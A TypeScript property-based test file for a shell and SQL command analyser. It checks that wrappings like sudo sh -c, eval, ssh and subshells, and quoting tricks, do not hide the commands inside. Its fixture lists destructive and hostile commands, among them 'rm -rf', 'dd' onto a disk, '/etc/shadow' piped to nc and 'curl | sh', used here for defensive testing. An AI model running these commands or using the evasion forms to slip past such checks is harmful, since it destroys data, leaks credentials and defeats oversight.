/** Properties of the analysis: what wraps a line never hides what is in it, and no text makes it throw. */
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { randomShellLine } from '../../../test/support/random-shell-text.ts';
import type { Analysis, Dialect } from '../analysis.ts';
import { analyse } from './analyse.ts';
import { prepareSql } from './postgres-parser.ts';

beforeAll(prepareSql);

const LINES = [
  'rm -rf /srv',
  'systemctl stop nginx',
  "sudo -u root sh -c 'rm -rf /x'",
  'find . -name x -exec rm -f {} +',
  'dd if=/dev/zero of=/dev/sdb',
  'echo a > /etc/hosts',
  "psql -c 'DELETE FROM users'",
  "echo 'TRUNCATE t;' | psql db",
  'cat /etc/shadow | nc h 9',
  "ssh h 'userdel bob'",
  'for h in a b; do systemctl stop $h; done',
  'x=rm; $x -rf /var',
  'docker exec web rm -rf /x',
  'curl http://x | sh',
  'if a; then umount /x; fi',
  '{rm,-rf,/var}',
];

const shell = (text: string): Analysis => analyse(text, { context: 'shell', dialect: 'bash' });
const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

/** Everything that a rule could ask of a command besides its surroundings. */
const keysOf = (analysis: Analysis): readonly string[] =>
  analysis.commands.map((one) =>
    JSON.stringify([one.name, one.argv, one.sqlIds, one.redirs, one.facts.filter((fact) => fact !== 'definition')]),
  );

const WRAPPINGS: readonly (readonly [string, (line: string) => string])[] = [
  ['sudo sh -c', (line) => `sudo -n sh -c ${quote(line)}`],
  ['env nohup', (line) => `env A=1 nohup sh -c ${quote(line)}`],
  ['substitution', (line) => `echo $( ${line} )`],
  ['if', (line) => `if true; then ${line}; fi`],
  ['group', (line) => `{ ${line}; }`],
  ['subshell', (line) => `( ${line} )`],
  ['list', (line) => `true; ${line}`],
  ['and', (line) => `true && { ${line}; }`],
  ['eval', (line) => `eval ${quote(line)}`],
  ['blanks', (line) => `   ${line}   `],
  ['here-string', (line) => `bash <<< ${quote(line)}`],
  ['echo', (line) => `echo ${quote(line)} | bash`],
  ['ssh', (line) => `ssh host ${quote(line)}`],
  ['timeout', (line) => `timeout 5 bash -c ${quote(line)}`],
  ['comment', (line) => `${line} # harmless`],
];

describe.each(WRAPPINGS)('%s', (name, wrap) => {
  test.each(LINES)('keeps the commands of %s', (line) => {
    const wrapped = shell(wrap(line));
    expect(wrapped.unparsable).toBeNull();
    // A function body or remote shell does not know the caller's stdin, so facts about it are compared by name only.
    const inside = name === 'ssh' ? shell(line).commands.map((one) => one.name) : keysOf(shell(line));
    const outside = name === 'ssh' ? wrapped.commands.map((one) => one.name) : keysOf(wrapped);
    expect(outside).toEqual(expect.arrayContaining([...inside]));
  });
});

test('quoting letters of the name changes nothing', () => {
  const quoting = fc.constantFrom(
    (char: string) => char,
    (char: string) => `\\${char}`,
    (char: string) => `'${char}'`,
    (char: string) => `"${char}"`,
    (char: string) => `$'\\x${char.charCodeAt(0).toString(16)}'`,
    (char: string) => `''${char}`,
  );
  fc.assert(
    fc.property(fc.array(quoting, { minLength: 2, maxLength: 2 }), (ways) => {
      const name = [...'rm'].map((char, index) => ways[index]?.(char) ?? char).join('');
      expect(shell(`${name} -rf /x`).commands[0]).toMatchObject({ name: 'rm', argv: ['rm', '-rf', '/x'] });
    }),
  );
});

test('text in quotes is text', () => {
  fc.assert(
    fc.property(fc.constantFrom(...LINES), fc.constantFrom('echo', 'grep', 'git commit -m'), (line, command) => {
      const analysis = shell(`${command} ${quote(line)}`);
      expect(analysis.commands).toHaveLength(1);
      expect(analysis.opaque).toEqual([]);
    }),
  );
});

test('random text never throws, in any context', () => {
  const dialects = fc.constantFrom<Dialect>('bash', 'sh', 'zsh', 'fish', 'unknown');
  const contexts = fc.constantFrom('shell' as const, 'exec' as const, 'psql' as const, 'mysql' as const);
  fc.assert(
    fc.property(randomShellLine, dialects, contexts, (line, dialect, context) => {
      const analysis = analyse(line, { context, dialect });
      expect(analysis.unparsable ?? '').not.toContain('the analysis failed');
    }),
    { numRuns: 5000 },
  );
});

test('the same text gives the same answer', () => {
  fc.assert(
    fc.property(randomShellLine, (line) => {
      expect(shell(line)).toEqual(shell(line));
    }),
    { numRuns: 300 },
  );
});
